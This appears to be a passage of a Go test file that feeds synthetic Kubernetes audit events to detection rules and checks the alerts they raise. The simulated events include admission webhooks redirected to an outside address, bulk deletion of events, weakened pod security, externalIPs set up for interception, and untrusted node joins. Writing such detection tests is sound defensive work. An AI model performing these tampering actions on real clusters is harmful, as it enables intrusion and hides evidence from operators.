		{"webhook pointed elsewhere", one(made(t, webhook, set{"/verb", "patch"}, set{"/requestObject", object(`{"webhooks": [{"name": "inject.example.net", "clientConfig": {"url": "https://203.0.113.97/x"}}]}`)})), []string{"audit-admission-webhook-change high"}},
		{"webhook pointed elsewhere by a JSON patch", one(made(t, webhook, set{"/verb", "patch"}, set{"/requestObject", object(`[{"op": "replace", "path": "/webhooks/0/clientConfig", "value": {"url": "https://203.0.113.97/x"}}]`)})), []string{"audit-admission-webhook-change high"}},
		{"certificate put into a webhook", one(injected), nil},
		{"certificate put into a webhook by a JSON patch", one(made(t, injected, set{"/user/username", operator}, set{"/requestObject", object(`[{"op": "replace", "path": "/webhooks/0/clientConfig/caBundle", "value": "TFM="}]`)})), nil},
		{"webhook of a chart", one(made(t, webhook, set{"/user/username", deployer}, set{"/userAgent", "Helm/3.14.4"}, set{"/requestObject/webhooks/0/clientConfig", object(`{"service": {"name": "w", "namespace": "operators"}}`)}, set{"/responseObject", nil})), []string{"audit-admission-webhook-change low"}},
		{"policy webhook deleted", one(made(t, webhook, set{"/verb", "delete"}, set{"/objectRef/resource", "validatingwebhookconfigurations"}, set{"/requestObject", nil}, set{"/responseObject", nil})), []string{"audit-admission-webhook-change high"}},
		{"events deleted at once", one(made(t, event, set{"/verb", "deletecollection"}, set{"/objectRef/apiGroup", "events.k8s.io"}, set{"/objectRef/name", nil})), []string{"audit-events-deleted medium"}},
		{"events of a deleted namespace", one(made(t, event, set{"/verb", "deletecollection"}, set{"/user/username", "system:serviceaccount:kube-system:namespace-controller"}, set{"/userAgent", "kube-controller-manager/v1.35.4"})), nil},
		{"configuration of kube-proxy", one(made(t, dns, set{"/objectRef/name", "kube-proxy"}, set{"/requestObject/data", object(`{"mode": "x"}`)}, set{"/responseObject", nil})), []string{"audit-system-config-changed low"}},
		{"authorities of the API server", one(made(t, dns, set{"/objectRef/name", "extension-apiserver-authentication"}, set{"/requestObject/data", object(`{"client-ca-file": "x"}`)}, set{"/responseObject", nil})), []string{"audit-system-config-changed high"}},
		{"cluster DNS by its installer", one(made(t, dns, set{"/verb", "create"}, set{"/user/username", "kubernetes-admin"}, set{"/requestObject/data/Corefile", ".:53 {\n  errors\n  forward . /etc/resolv.conf\n}\n"}, set{"/responseObject", nil})), nil},
		{"network policy deleted", one(made(t, deleted, set{"/objectRef/resource", "networkpolicies"}, set{"/objectRef/apiGroup", "networking.k8s.io"}, set{"/objectRef/name", "deny"})), []string{"audit-network-policy-removed medium"}},
		{"network policy deleted by a chart", one(made(t, deleted, set{"/user/username", deployer}, set{"/userAgent", "Helm/3.14.4"}, set{"/objectRef/resource", "networkpolicies"}, set{"/objectRef/apiGroup", "networking.k8s.io"}, set{"/objectRef/name", "deny"})), []string{"audit-network-policy-removed low"}},
		{"namespace by a person", one(newNamespace), []string{"audit-namespace-created-unapproved low"}},
		{"namespace by an account", one(made(t, newNamespace, set{"/user/username", deployer})), nil},
		{"pod security weakened", one(made(t, newNamespace, set{"/verb", "patch"}, set{"/level", "Request"}, set{"/requestObject", object(`{"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}`)})), []string{"audit-namespace-security-label-weakened high"}},
		{"pod security taken away", one(made(t, newNamespace, set{"/verb", "patch"}, set{"/level", "Request"}, set{"/requestObject", object(`{"metadata": {"labels": {"pod-security.kubernetes.io/enforce": null}}}`)})), []string{"audit-namespace-security-label-weakened high"}},
		{"label of a namespace, body known", one(made(t, newNamespace, set{"/verb", "patch"}, set{"/level", "Request"}, set{"/requestObject", object(`{"metadata": {"labels": {"team": "a"}}}`)})), nil},
		{"label of a namespace, body unknown", one(made(t, newNamespace, set{"/verb", "patch"})), []string{"audit-namespace-security-label-weakened low"}},
		{"namespaces deleted", times(t, 3, time.Second, namespace, func(i int) []set {
			return []set{{"/objectRef/name", fmt.Sprint("team-", i)}, {"/objectRef/namespace", fmt.Sprint("team-", i)}}
		}), []string{"audit-namespace-deleted low", "audit-namespace-deleted low", "audit-namespace-deleted low", "audit-storage-deletion high"}},
		{"deployments deleted", times(t, 10, 100*time.Millisecond, deleted, func(i int) []set {
			return []set{{"/objectRef/resource", "deployments"}, {"/objectRef/name", fmt.Sprint("d-", i)}}
		}), []string{"audit-mass-deletion-of-a-kind high"}},
		{"chart removed", times(t, 15, 100*time.Millisecond, deleted, func(i int) []set {
			return []set{{"/userAgent", "Helm/3.14.4"}, {"/objectRef/resource", []string{"deployments", "services", "secrets"}[i%3]}, {"/objectRef/name", fmt.Sprint("d-", i)}}
		}), nil},
		{"everything removed", times(t, 24, 100*time.Millisecond, deleted, func(i int) []set {
			return []set{{"/objectRef/resource", []string{"deployments", "services", "secrets"}[i%3]}, {"/objectRef/name", fmt.Sprint("d-", i)}}
		}), []string{"audit-mass-deletion high"}},
		{"another's node", one(made(t, nodeStatus, set{"/user/username", "system:node:node-2"})), []string{"audit-node-join-untrusted critical"}},
		{"a node's own status", one(nodeStatus), nil},
		{"node made by a person", one(made(t, deleted, set{"/verb", "create"}, set{"/objectRef/resource", "nodes"}, set{"/objectRef/namespace", nil}, set{"/objectRef/name", "node-x"})), []string{"audit-node-join-untrusted critical"}},
		{"taint of a node", one(made(t, deleted, set{"/verb", "patch"}, set{"/objectRef/resource", "nodes"}, set{"/objectRef/namespace", nil}, set{"/objectRef/name", "node-1"})), []string{"audit-node-changed low"}},
		{"part of the API given away", one(made(t, webhook, set{"/objectRef/resource", "apiservices"}, set{"/objectRef/apiGroup", "apiregistration.k8s.io"}, set{"/requestObject", object(`{"kind": "APIService", "spec": {"group": "x.example.net", "version": "v1", "insecureSkipTLSVerify": true, "service": {"namespace": "shop", "name": "web"}}}`)}, set{"/responseObject", nil})), []string{"audit-apiservice-changed high"}},
		{"metrics server", one(made(t, webhook, set{"/user/username", "kubernetes-admin"}, set{"/objectRef/resource", "apiservices"}, set{"/objectRef/apiGroup", "apiregistration.k8s.io"}, set{"/requestObject", object(`{"kind": "APIService", "spec": {"group": "metrics.k8s.io", "version": "v1beta1", "insecureSkipTLSVerify": true, "service": {"namespace": "kube-system", "name": "metrics-server"}}}`)}, set{"/responseObject", nil})), []string{"audit-apiservice-changed low"}},

		// Exposure.
		{"service inside", one(made(t, service, set{"/requestObject/spec/type", "ClusterIP"}, set{"/responseObject", nil})), nil},
		{"external addresses", one(made(t, service, set{"/responseObject", nil}, set{"/requestObject/spec/type", "ClusterIP"}, set{"/requestObject/spec/externalIPs", []any{"203.0.113.97"}}, set{"/objectRef/name", "web"}, set{"/objectRef/namespace", "shop"}, set{"/requestObject/spec/selector", object(`{"app": "web"}`)})), []string{"audit-external-ips-mitm high", "audit-service-exposed low"}},
		{"balancer's address by hand", one(made(t, service, set{"/responseObject", nil}, set{"/verb", "patch"}, set{"/objectRef/subresource", "status"}, set{"/requestObject", object(`{"status": {"loadBalancer": {"ingress": [{"ip": "203.0.113.97"}]}}}`)})), []string{"audit-external-ips-mitm high"}},
		{"dashboard behind an ingress", one(made(t, ingress, set{"/objectRef/namespace", "tools"}, set{"/responseObject", nil}, set{"/requestObject/spec/rules/0/http/paths/0/backend/service/name", "kubernetes-dashboard"})), []string{"audit-dashboard-exposed high", "audit-ingress-without-tls low"}},
		{"database by a balancer", one(made(t, service, set{"/responseObject", nil}, set{"/requestObject/spec/type", "LoadBalancer"}, set{"/objectRef/name", "store"}, set{"/objectRef/namespace", "shop"}, set{"/requestObject/spec/selector", object(`{"app": "store"}`)}, set{"/requestObject/spec/ports", object(`[{"port": 5432}]`)})), []string{"audit-datastore-exposed medium", "audit-service-exposed low"}},
		{"database by a private balancer", one(made(t, service, set{"/responseObject", nil}, set{"/requestObject/spec/type", "LoadBalancer"}, set{"/requestObject/metadata/annotations", object(`{"service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type": "intranet"}`)}, set{"/objectRef/name", "store"}, set{"/objectRef/namespace", "shop"}, set{"/requestObject/spec/selector", object(`{"app": "postgres"}`)})), []string{"audit-datastore-exposed low", "audit-service-exposed info"}},
		{"notebooks by a node port", one(made(t, service, set{"/responseObject", nil}, set{"/objectRef/name", "proxy-public"}, set{"/objectRef/namespace", "data"}, set{"/requestObject/spec/selector", object(`{"app": "jupyterhub"}`)})), []string{"audit-ml-platform-exposed medium", "audit-service-exposed low"}},
		{"SSH by a node port", one(made(t, service, set{"/responseObject", nil}, set{"/objectRef/name", "s"}, set{"/objectRef/namespace", "shop"}, set{"/requestObject/spec/selector", object(`{"app": "web"}`)}, set{"/requestObject/spec/ports/0/port", 22})), []string{"audit-service-exposed medium"}},
		{"ingress with TLS", one(made(t, ingress, set{"/requestObject/spec/tls", object(`[{"hosts": ["a"]}]`)}, set{"/responseObject", nil})), nil},
	}
}

func TestMadeEvents(t *testing.T) {
	rules := auditRules(t)
	for _, c := range slices.Concat(madeCases(t), edgeCases(t), evasions(t), ordinary(t)) {
		got := tells(t, rules, c.lines...)
		if diff := cmp.Diff(c.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", c.name, diff)
		}
	}
}

// What is new is told once what was usual is known.
func TestFirstSeen(t *testing.T) {
	rules := auditRules(t)
	for _, c := range firstSeenCases(t) {
		if diff := cmp.Diff(c.want, tells(t, rules, c.lines...)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", c.name, diff)
		}
	}
}

func firstSeenCases(t testing.TB) []madeCase {
	t.Helper()
	request := first(t, of("list_all_secrets"), operator, "list", "secrets")
	pod := first(t, of("privileged_pod"), developer, "create", "pods")
	binding := first(t, benign, deployer, "create", "rolebindings")
	return []madeCase{
		{"person after a week", times(t, 10, 24*time.Hour, request, func(i int) []set {
			return []set{{"/objectRef/resource", "pods"}, {"/sourceIPs", []any{"10.77.0.11"}}, {"/user/username", []string{operator, "new@example.test"}[i/9]}}
		}), []string{"audit-unknown-user medium"}},
		{"person in the first week", times(t, 6, 24*time.Hour, request, func(i int) []set {
			return []set{{"/objectRef/resource", "pods"}, {"/sourceIPs", []any{"10.77.0.11"}}, {"/user/username", []string{operator, "new@example.test"}[i/5]}}
		}), nil},
		{"public address after a week", times(t, 10, 24*time.Hour, request, func(i int) []set {
			return []set{{"/objectRef/resource", "pods"}, {"/sourceIPs", []any{[]string{"198.51.100.7", "203.0.113.97"}[i/9]}}}
		}), []string{"audit-api-from-bad-ip low"}},
		{"registry after a day", times(t, 30, time.Hour, pod, func(i int) []set {
			return []set{{"/requestObject/spec/containers/0/securityContext", nil}, {"/responseObject", nil}, {"/requestObject/spec/containers/0/image", []string{"docker.io/library/alpine:3.20", "registry.example.net/x/y:1"}[i/29]}}
		}), []string{"audit-untrusted-image-pod medium"}},
		{"bodies left out after a day", times(t, 30, time.Hour, pod, func(i int) []set {
			if i < 29 {
				return []set{{"/requestObject/spec/containers/0/securityContext", nil}, {"/responseObject", nil}}
			}
			return []set{{"/level", "Metadata"}, {"/requestObject", nil}, {"/responseObject", nil}}
		}), nil},
		{"person that writes roles after a week", times(t, 10, 24*time.Hour, binding, func(i int) []set {
			return []set{{"/user/username", []string{deployer, operator}[i/9]}, {"/sourceIPs", []any{"10.77.0.11"}}}
		}), nil},
		{"controller that writes roles after a week", times(t, 10, 24*time.Hour, binding, func(i int) []set {
			return []set{{"/user/username", []string{deployer, "system:serviceaccount:kube-system:clusterrole-aggregation-controller"}[i/9]}}
		}), nil},
		{"account that writes roles after a week", times(t, 10, 24*time.Hour, binding, func(i int) []set {
			return []set{{"/user/username", []string{deployer, "system:serviceaccount:shop:web"}[i/9]}}
		}), []string{"audit-sa-modifies-rbac medium"}},
	}
}
